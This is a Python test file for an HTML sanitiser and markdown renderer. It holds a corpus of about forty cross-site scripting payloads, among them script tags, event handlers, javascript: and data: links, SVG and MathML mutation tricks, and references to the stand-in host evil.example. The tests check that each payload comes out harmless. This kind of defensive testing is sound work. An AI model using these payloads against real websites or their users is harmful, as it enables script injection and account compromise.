"""The corpus of attacks that the cleaning chain must withstand."""

import html as entities
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from college.core.html import clean_html, clean_inline, strip_html
from college.core.markdown import render_markdown, render_markdown_inline

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onclick=alert(1)>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><button formaction='javascript:alert(1)'>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><script>alert(1)</script></template>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id='x' class='y' data-z='1'>x</p>",
    "<xss style='animation-name:x' onanimationend=alert(1)></xss>",
    "<a href='https://ok.example' target=_blank>x</a>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    '<a href="https://x.example/\'><script>alert(1)</script>">x</a>',
    'http://x.example/"onmouseover=alert(1)',
    "https://x.example/<script>alert(1)</script>",
    "<table><td background='javascript:alert(1)'>x</table>",
]
TAG = re.compile(r"<\s*/?\s*([a-zA-Z!][^\s>/]*)([^>]*)>")
ALLOWED = {
    "a", "abbr", "b", "bdi", "blockquote", "br", "caption", "cite", "code", "dd", "dl", "dt", "em", "h2", "h3", "h4",
    "hr", "i", "li", "ol", "p", "pre", "q", "s", "small", "strong", "sub", "sup", "table", "tbody", "td", "th",
    "thead", "tr", "ul",
}  # fmt: skip


def assert_harmless(markup: str) -> None:
    """No tag outside the list, no handler, no style, no address but http, https, mailto or one on the page."""
    for name, attributes in TAG.findall(markup):
        assert name.lower() in ALLOWED
        for attribute, value in re.findall(r"([a-zA-Z-]+)\s*=\s*\"([^\"]*)\"", attributes):
            assert not attribute.lower().startswith("on")
            assert attribute.lower() not in {"style", "srcdoc", "src", "class"}
            if attribute.lower() == "href":
                target = entities.unescape(value).strip().lower()
                assert re.match(r"(https?:|mailto:|#|/|[^:]*$)", target)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("is_linked", [True, False])
def test_attacks_come_out_harmless(attack: str, is_linked: bool) -> None:
    assert_harmless(clean_html(attack, link_addresses=is_linked))
    assert_harmless(clean_inline(attack))
    assert_harmless(render_markdown(attack))
    assert_harmless(render_markdown_inline(attack))


@example(["<a href='", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>"])
@given(st.lists(st.sampled_from([*ATTACKS, "<p>", "</p>", "text ", "&lt;", "'", '"', "<a href='", ">"]), max_size=6))
def test_combinations_of_attacks_come_out_harmless(pieces: list[str]) -> None:
    assert_harmless(clean_html("".join(pieces), link_addresses=True))


@given(st.text(max_size=300))
def test_cleaning_twice_changes_nothing(text: str) -> None:
    once = clean_html(text)
    assert clean_html(once) == once


def test_what_authors_write_stays() -> None:
    source = "<h2>Hits</h2><p>A <strong>hit</strong> is <em>not</em> proof<sup>1</sup>.</p><ul><li>One</li></ul>"
    assert clean_html(source) == source


def test_plain_addresses_become_links_on_request() -> None:
    linked = '<p>See <a href="https://www.example.org/x" rel="noopener noreferrer">https://www.example.org/x</a>.</p>'
    assert clean_html("<p>See https://www.example.org/x.</p>", link_addresses=True) == linked
    assert clean_html("<p>See https://www.example.org/x.</p>") == "<p>See https://www.example.org/x.</p>"


def test_scripts_vanish_with_their_text() -> None:
    assert clean_html("<p>a</p><script>alert(1)</script>") == "<p>a</p>"
    assert strip_html("<p>a <b>b</b></p><script>c</script>") == "a b"
